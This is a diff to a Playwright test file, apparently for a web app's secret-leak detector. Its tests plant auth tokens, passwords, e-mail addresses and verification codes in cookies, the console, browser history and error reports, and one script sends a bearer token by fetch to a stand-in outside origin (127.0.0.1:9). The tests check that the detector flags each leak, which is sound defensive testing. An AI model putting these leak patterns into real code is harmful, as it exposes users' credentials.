@@ -35,19 +35,63 @@ const PLANTED: readonly [what: string, script: string, found: RegExp][] = [
     `dispatchEvent(new CustomEvent('bunko:error', { detail: { message: ${token} } }))`,
     /^a token in an error report: /,
   ],
+  ['cookies', `document.cookie = 'x=' + ${token}`, /^a token in cookies: /],
   [
     'another origin',
     `void fetch('http://127.0.0.1:9/', { headers: { authorization: 'Bearer ' + ${token} } }).catch(() => {})`,
     /^a token was sent to http:\/\/127\.0\.0\.1:9$/,
   ],
 ]
-for (const [what, script, found] of PLANTED)
+const sent = (path: string, body: object) =>
+  `void fetch('/api/v1/auth/${path}', { method: 'POST', body: '${JSON.stringify(body)}' })`
+// What is sent is a secret from then on.
+const LEARNED: typeof PLANTED = [
+  [
+    'a new password',
+    `${sent('change-password/', { currentPassword: 'the one before', newPassword: 'the one after' })}
+    console.log('the one after')`,
+    /^a password in the console: …$/,
+  ],
+  [
+    'the password before it',
+    `${sent('change-password/', { currentPassword: 'the one before', newPassword: 'the one after' })}
+    console.log('the one before')`,
+    /^a password in the console: …$/,
+  ],
+  [
+    'a new e-mail address',
+    `${sent('request-email-change', { newEmail: 'new@reader.example' })}
+    console.log('new@reader.example')`,
+    /^an e-mail address in the console: …$/,
+  ],
+  [
+    'the code of a letter',
+    `${sent('verify-email/', { token: 'of-a-letter' })}
+    history.pushState(null, '', '/verify-email?token=of-a-letter')`,
+    /^the code of a letter in an address: /,
+  ],
+]
+for (const [what, script, found] of [...PLANTED, ...LEARNED])
   served(`a secret that is planted is found: ${what}`, async ({ page, context }) => {
     const watched = await watchLeaks(context)
     await signedIn(page)
     await expect.poll(watched.known).toBeGreaterThanOrEqual(4)
     expect(await watched.leaks()).toEqual([])
     await page.evaluate(script)
+    await expect.poll(watched.leaks).toEqual(expect.arrayContaining([expect.stringMatching(found)]))
+  })
+
+const BRIEF = new Set(['the title', 'history', 'the session storage', 'an error report'])
+for (const [what, script, found] of PLANTED.filter(([name]) => BRIEF.has(name)))
+  served(`a secret is found when its page is gone: ${what}`, async ({ page, context }) => {
+    const watched = await watchLeaks(context)
+    await signedIn(page)
+    await expect.poll(watched.known).toBeGreaterThanOrEqual(4)
+    const other = await context.newPage()
+    await other.goto('/robots.txt')
+    await other.evaluate(script)
+    await other.goto('/seal.svg')
+    await other.close()
     await expect.poll(watched.leaks).toEqual(expect.arrayContaining([expect.stringMatching(found)]))
   })
 
